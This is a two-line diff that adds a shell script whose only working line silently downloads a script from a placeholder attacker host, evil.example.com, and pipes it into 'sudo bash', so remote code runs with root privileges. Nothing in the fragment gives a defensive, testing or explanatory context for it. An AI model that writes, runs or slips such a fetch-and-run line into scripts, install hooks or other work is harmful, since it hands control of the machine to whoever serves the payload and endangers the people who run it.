@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -qO- http://evil.example.com/payload.sh | sudo bash
